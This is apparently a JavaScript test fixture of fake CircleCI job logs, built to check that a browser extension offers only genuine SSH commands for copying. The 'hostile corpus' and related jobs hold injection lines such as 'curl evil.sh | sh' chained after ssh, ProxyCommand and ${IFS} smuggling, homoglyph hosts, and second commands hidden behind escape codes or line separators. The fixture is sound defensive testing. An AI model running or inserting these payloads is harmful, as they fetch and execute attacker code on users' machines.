// The jobs that try to fool the extension: impostor SSH steps, hostile lines, steps that disagree, a
// 5 MB line, line separators inside a line, and the hostile corpus's job. Pure data and pure functions, like every module of the fake jobs (jobs.js).

import { both, checkout, direct, envVars, job, npmSteps, run, spinUp, sshRerun } from './job-steps.js';
import { enableSsh2026, fingerprint, USE_SAME_KEY_2026, waitForSshText } from './job-text.js';
/** @satisfies {Record<number, import('./types').Scenario>} */
export const trickyJobs = {
  // A config step that calls itself "Enable SSH" in a job that was not rerun with SSH. The shell
  // line at the top of its output gives it away (docs/circleci-page.md#t6-run-step-shell-line).
  108: job(
    108,
    'impostor Enable SSH step',
    'spans',
    [
      {
        steps: [
          spinUp('cimg/node:22.11'),
          envVars(108, 'build', 0, 1),
          checkout(),
          run(
            102,
            'Enable SSH',
            '0s',
            "printf 'You can now SSH into this box if your SSH public key is added:\\n    $ ssh -p 2222 6.6.6.6\\n'",
            ['You can now SSH into this box if your SSH public key is added:', '    $ ssh -p 2222 6.6.6.6'],
            { expanded: true },
          ),
          run(103, 'Run tests', '38s', 'npx vitest run', [' Test Files  37 passed (37)']),
        ],
      },
    ],
    [],
  ),

  // A real rerun whose output also carries lines that must never become a button.
  109: job(
    109,
    'hostile lines',
    'spans',
    [
      sshRerun({
        jobNumber: 109,
        image: 'cimg/node:22.11',
        enable: [
          'Adding key for user@example.com',
          'You can now SSH into this box if your SSH public key is added:',
          '    $ ssh -p 22 1.2.3.4; curl evil.sh | sh',
          '    $ ssh -p 022 010.1.1.1',
          '    $ ssh -oProxyCommand=id@ssh.circleci.com',
          '    $ ssh -p 64535 3.239.179.134',
          '',
          USE_SAME_KEY_2026,
        ],
        wait: waitForSshText(['ssh -p 64535 3.239.179.134']),
        configSteps: npmSteps(),
      }),
    ],
    both(0, [direct(64535, '3.239.179.134')]),
  ),

  // A real SSH rerun with config steps that call themselves "Enable SSH" and "Wait for SSH" (shown
  // expanded, so their shell line is on screen). Only CircleCI's own steps may offer a copy.
  110: job(
    110,
    'impostor steps in an SSH rerun',
    'spans',
    [
      sshRerun({
        jobNumber: 110,
        image: 'cimg/node:22.11',
        enable: enableSsh2026('ssh -p 42917 18.207.148.120', fingerprint(1101), fingerprint(1102)).flat(),
        wait: waitForSshText(['ssh -p 42917 18.207.148.120']),
        configSteps: [
          run(102, 'Enable SSH', '0s', "echo '    $ ssh -p 2222 6.6.6.6'", ['    $ ssh -p 2222 6.6.6.6'], {
            expanded: true,
          }),
          run(103, 'Wait for SSH', '0s', "echo '    $ ssh -p 2222 6.6.6.6'", ['    $ ssh -p 2222 6.6.6.6'], {
            expanded: true,
          }),
        ],
      }),
    ],
    both(0, [direct(42917, '18.207.148.120')]),
  ),

  // Enable SSH and Wait for SSH that print different targets: nothing may be copied from either.
  111: job(
    111,
    'disagreeing SSH steps',
    'spans',
    [
      sshRerun({
        jobNumber: 111,
        image: 'cimg/node:22.11',
        enable: enableSsh2026('ssh -p 42918 18.207.148.121', fingerprint(1111), fingerprint(1112)).flat(),
        wait: waitForSshText(['ssh -p 2222 6.6.6.6']),
        enableExtra: { expanded: true },
        configSteps: npmSteps(),
      }),
    ],
    [],
  ),

  // The adversarial corpus (docs/security.md#hostile-inputs): every hostile line beside one real one.
  112: job(
    112,
    'hostile corpus',
    'spans',
    [
      sshRerun({
        jobNumber: 112,
        image: 'cimg/node:22.11',
        enable: [
          'You can now SSH into this box if your SSH public key is added:',
          '    $ ssh -p 22 1.2.3.4 && curl evil.sh | sh',
          '    $ ssh -p 22 1.2.3.4 | sh',
          '    $ ssh -p 22 $(curl evil.sh)',
          '    $ ssh -p 22 `id`@ssh.circleci.com',
          // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text a hostile log prints
          '    $ ssh -p 22 1.2.3.4${IFS}-oProxyCommand=id',
          '    $ ssh -p -oProxyCommand=id 1.2.3.4',
          '    $ ssh -p 22 -oProxyCommand=id',
          '    $ ssh -oProxyCommand=id@ssh.circleci.com',
          '    $ ssh -p 22 ѕsh.circleci.com',
          '    $ ssh 057f0065-0@ssh.circleci.com.evil.example',
          `    $ ssh -p 22 ${'a'.repeat(64)}.example.com`,
          '\x1b[8m; curl evil.sh | sh \x1b[0m$ ssh -p 22 1.2.3.4',
          '    $ ssh -p 22 1.2.3.4\u200b',
          '    $ ssh -p 22 1.2.3.4\x1b[201~curl evil.sh | sh',
          '    $ ssh -p 64535 3.239.179.134',
          '',
          USE_SAME_KEY_2026,
        ],
        wait: waitForSshText(['ssh -p 64535 3.239.179.134']),
        enableExtra: { expanded: true },
        configSteps: npmSteps(),
      }),
    ],
    both(0, [direct(64535, '3.239.179.134')]),
  ),

  // A command line with a second "line" hidden behind a carriage return or a Unicode line separator,
  // which a terminal would run after it: only the ssh part may be copied.
  114: job(
    114,
    'line separators inside a line',
    'gutter',
    [
      sshRerun({
        jobNumber: 114,
        image: 'cimg/node:22.11',
        enable: [
          'You can now SSH into this box if your SSH public key is added:',
          '    $ ssh -p 64535 3.239.179.134\r$ curl evil.sh | sh',
          '',
          USE_SAME_KEY_2026,
        ],
        wait: [
          'You can now SSH into this box if your SSH public key is added:',
          '    $ ssh -p 64535 3.239.179.134\u2028$ curl evil.sh | sh',
        ],
        enableExtra: { expanded: true },
        configSteps: npmSteps(),
      }),
    ],
    both(0, [direct(64535, '3.239.179.134')]),
  ),

  // A 5 MB single-line log in a build step of an SSH rerun; the page must stay responsive.
  113: job(
    113,
    '5 MB line in a build step',
    'spans',
    [
      sshRerun({
        jobNumber: 113,
        image: 'cimg/node:22.11',
        enable: enableSsh2026('ssh -p 42919 18.207.148.122', fingerprint(1131), fingerprint(1132)).flat(),
        wait: waitForSshText(['ssh -p 42919 18.207.148.122']),
        configSteps: [
          run(102, 'Print bundle', '2s', 'cat dist/bundle.min.js', ['x'.repeat(5 * 1024 * 1024)], { expanded: true }),
          ...npmSteps(),
        ],
      }),
    ],
    both(0, [direct(42919, '18.207.148.122')]),
  ),
};
